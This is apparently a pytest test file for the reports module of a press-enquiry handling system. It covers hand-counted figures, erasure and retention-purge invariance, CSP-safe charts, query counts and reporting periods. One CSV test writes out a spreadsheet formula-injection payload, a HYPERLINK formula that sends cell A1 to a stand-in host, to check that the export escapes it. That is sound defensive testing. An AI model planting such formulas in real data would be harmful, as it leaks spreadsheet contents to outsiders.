"""Reports: figures that match hand-counted fixtures, and stay the same across an erasure and
the retention purge; charts under the CSP; formula-safe CSV; a fixed number of queries."""

from datetime import date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
import time_machine

from enquiries.handling import contacts
from enquiries.handling import enquiries as handling
from enquiries.models import TopicCategory
from enquiries.privacy.erasure import erase_contact
from enquiries.reports import figures
from enquiries.reports import report as reports
from enquiries.reports.periods import Period, resolve
from enquiries.retention.purge import purge_expired
from tests import makers

pytestmark = pytest.mark.django_db

OSLO = ZoneInfo("Europe/Oslo")
MARCH = Period(date(2026, 3, 1), date(2026, 4, 1))


def at(day: int, hour: int, month: int = 3, year: int = 2026) -> datetime:
    return datetime(year, month, day, hour, 0, tzinfo=OSLO)


@pytest.fixture
def march(officer):  # type: ignore[no-untyped-def]
    """Five enquiries in March 2026, counted by hand below."""
    category = TopicCategory.objects.create(name="Beredskap")
    vg = makers.make_outlet(name="VG")
    nrk = contacts.find_or_create_outlet(name="NRK", kind="broadcaster")
    kari = makers.make_journalist(
        first_name="Kari",
        last_name="Hansen",
        email="kari@nrk.no",
        mobile="+47 41000001",
        outlet=nrk,
    )
    with time_machine.travel(at(31, 12), tick=False):
        a = makers.make_enquiry(received_at=at(2, 9), outlet=vg, topic_category=category)  # Mon
        b = makers.make_enquiry(
            received_at=at(2, 9), outlet=vg, channel="email", deadline=at(2, 15)
        )
        c = makers.make_enquiry(received_at=at(3, 14), journalist=kari, outlet=nrk)  # Tue
        makers.make_enquiry(received_at=at(7, 22), channel="web_form", kind="foi")  # Sat
        d = makers.make_enquiry(received_at=at(9, 10), outlet=nrk)
    # Replies: a after 2 h by e-mail, answered after 4 h; b answered at 14:00, before its
    # deadline; c closed without an answer; d still open.
    handling.add_message(
        enquiry_id=a.pk, by=officer, direction="out", body="Svar", sent_at=at(2, 11)
    )
    with time_machine.travel(at(2, 13), tick=False):
        handling.change_status(enquiry_id=a.pk, status="answered", by=officer)
    with time_machine.travel(at(2, 14), tick=False):
        handling.change_status(enquiry_id=b.pk, status="answered", by=officer)
    with time_machine.travel(at(4, 9), tick=False):
        handling.change_status(enquiry_id=c.pk, status="closed", by=officer)
    return {"a": a, "b": b, "c": c, "d": d}


def _counts(report: figures.Report) -> dict[str, object]:
    counts = report.counts
    return {
        "total": counts.total,
        "channel": dict(counts.by_channel),
        "kind": dict(counts.by_kind),
        "category": dict(counts.by_category),
        "outlet_kind": dict(counts.by_outlet_kind),
        "month": dict(counts.per_month),
    }


HAND_COUNTED = {
    "total": 5,
    "channel": {"phone": 3, "email": 1, "web_form": 1},
    "kind": {"press": 4, "foi": 1},
    "category": {"Beredskap": 1, "": 4},
    "outlet_kind": {"newspaper": 2, "broadcaster": 2, "": 1},
    "month": {date(2026, 3, 1): 5},
}


def test_the_figures_match_a_hand_count(march):
    report = reports.build(MARCH)
    assert _counts(report) == HAND_COUNTED
    assert report.busiest_outlets == [("NRK", 2), ("VG", 2)]
    answering = report.answering
    assert (answering.first_reply.count, answering.first_reply.median_hours) == (1, 2.0)
    assert (answering.answered.count, answering.answered.median_hours) == (2, 4.5)
    assert (answering.with_deadline, answering.before_deadline) == (1, 1)
    assert (answering.closed, answering.closed_unanswered) == (1, 1)
    # a answered after 4 h (4 h is inside "1 to 4 hours"), b after 5 h
    assert answering.buckets == [0, 1, 1, 0, 0]
    assert report.grid[0][9] == 2  # Monday 09:00
    assert report.grid[1][14] == 1  # Tuesday 14:00
    assert report.grid[5][22] == 1  # Saturday 22:00
    assert sum(map(sum, report.grid)) == 5
    assert report.counts.per_week == {"2026-W10": 4, "2026-W11": 1}  # Mon 2 to Sun 8 March
    assert report.previous.total == 0


def test_an_erasure_changes_no_count(march):
    before = _counts(reports.build(MARCH))
    erase_contact(by=None, via="desk", email="kari@nrk.no")
    after = _counts(reports.build(MARCH))
    assert after == before  # NRK's enquiry from Kari keeps its outlet kind, anonymously


def _answers(report: figures.Report) -> tuple[object, ...]:
    a = report.answering
    return (a.buckets, a.with_deadline, a.before_deadline, a.closed, a.closed_unanswered)


def test_purged_months_are_counted_from_their_tallies(officer):
    nrk = contacts.find_or_create_outlet(name="NRK", kind="broadcaster")
    may = {"month": 5, "year": 2022}
    with time_machine.travel(at(31, 12, **may), tick=False):
        made = [
            makers.make_enquiry(received_at=at(day, 10, **may), outlet=nrk, deadline=deadline)
            for day, deadline in ((2, at(2, 12, **may)), (3, at(3, 18, **may)), (4, None))
        ]
    # Answered after 30 min (before its 12:00 deadline), after 2 days (after its deadline);
    # the third closed without an answer.
    for enquiry, when, status in (
        (made[0], at(2, 10, **may) + timedelta(minutes=30), "answered"),
        (made[1], at(5, 10, **may), "answered"),
        (made[2], at(6, 10, **may), "closed"),
    ):
        with time_machine.travel(when, tick=False):
            handling.change_status(enquiry_id=enquiry.pk, status=status, by=officer)
    may_2022 = Period(date(2022, 5, 1), date(2022, 6, 1))
    before = reports.build(may_2022)
    assert _counts(before)["total"] == 3
    assert _answers(before) == ([1, 0, 0, 1, 0], 2, 1, 1, 1)
    with time_machine.travel(at(1, 12, month=12, year=2026), tick=False):
        result = purge_expired()
    assert result.counts["enquiries"] == 3
    after = reports.build(may_2022)
    assert _counts(after) == _counts(before)
    assert _answers(after) == _answers(before)  # from the tallies now
    assert after.answering.answered.count == 0  # the median is of live enquiries only


def test_the_page_shows_tables_and_svg_charts_under_the_csp(march, officer_client):
    response = officer_client.get(
        "/desk/reports/", {"period": "custom", "start": "2026-03-01", "end": "2026-03-31"}
    )
    assert response.status_code == 200
    html = response.content.decode()
    assert "<svg" in html
    assert "<rect" in html
    assert " style=" not in html
    assert "<style" not in html
    assert "<caption" in html  # every chart has its table, for screen readers
    assert response.context["report"].counts.total == 5


def test_a_bad_period_falls_back_to_this_month(officer_client):
    response = officer_client.get("/desk/reports/", {"period": "custom", "start": "9999-99-99"})
    assert response.status_code == 200


def test_csv_cells_are_text_in_spreadsheets(officer, officer_client):
    outlet = contacts.find_or_create_outlet(name='=HYPERLINK("http://x/?"&A1,"click")')
    makers.make_enquiry(outlet=outlet)
    response = officer_client.get("/desk/reports/outlets.csv")
    assert response.status_code == 200
    body = response.content.decode()
    assert "'=HYPERLINK" in body
    assert officer_client.get("/desk/reports/nothing.csv").status_code == 404


@pytest.mark.redis  # the production stack's count: the session comes from Redis
@pytest.mark.parametrize("period", ["this_month", "last_year"])
def test_the_page_costs_the_same_queries_whatever_the_period(
    period, march, officer_client, django_assert_num_queries
):
    officer_client.get("/desk/reports/")  # warms the session
    # session user; from the daily summary, for the period and the previous one: dimensions,
    # day totals, category names, tallies (8); busiest outlets (whole months, part-months;
    # their names only when there are any: none in these periods); answer facts and tallies
    # (2); weekday grid; FOI; opt-outs, standing opt-outs, erasures, rights (4)
    with django_assert_num_queries(19):
        officer_client.get("/desk/reports/", {"period": period})


def test_the_periods():
    today = date(2026, 12, 1)
    assert resolve(choice="last_month", today=today) == Period(date(2026, 11, 1), today)
    quarter = resolve(choice="this_quarter", today=today)
    assert quarter == Period(date(2026, 10, 1), date(2027, 1, 1))
    assert quarter.previous() == Period(date(2026, 7, 1), date(2026, 10, 1))
    custom = resolve(choice="custom", today=today, start=date(2026, 1, 5), end=date(2026, 1, 11))
    assert custom.previous() == Period(date(2025, 12, 29), date(2026, 1, 5))
